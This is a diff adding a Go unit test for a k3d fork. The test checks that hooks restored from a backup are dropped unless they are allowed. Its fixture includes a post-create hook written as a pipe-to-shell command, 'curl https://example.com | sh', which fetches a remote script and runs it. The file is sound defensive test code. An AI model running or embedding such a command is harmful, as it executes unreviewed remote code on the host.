@@ -0,0 +1,28 @@
+package run
+
+import (
+	"testing"
+
+	"github.com/Minhaz00/k3d/pkg/types"
+)
+
+func TestDropUntrustedHooks(t *testing.T) {
+	hooks := types.ClusterHooks{PostCreate: []string{"curl https://example.com | sh"}, PreDelete: []string{"echo bye"}}
+	tests := []struct {
+		allow     bool
+		wantHooks bool
+	}{
+		{allow: false, wantHooks: false},
+		{allow: true, wantHooks: true},
+	}
+	for _, tt := range tests {
+		spec := &clusterSpec{Name: "restored", Hooks: hooks}
+		dropUntrustedHooks(spec, tt.allow, "the backup")
+		if got := len(spec.Hooks.PostCreate) > 0 && len(spec.Hooks.PreDelete) > 0; got != tt.wantHooks {
+			t.Errorf("dropUntrustedHooks(allow %t) kept hooks: %t, want %t", tt.allow, got, tt.wantHooks)
+		}
+		if len(spec.Hooks.PostStart) > 0 {
+			t.Errorf("dropUntrustedHooks(allow %t) added hooks", tt.allow)
+		}
+	}
+}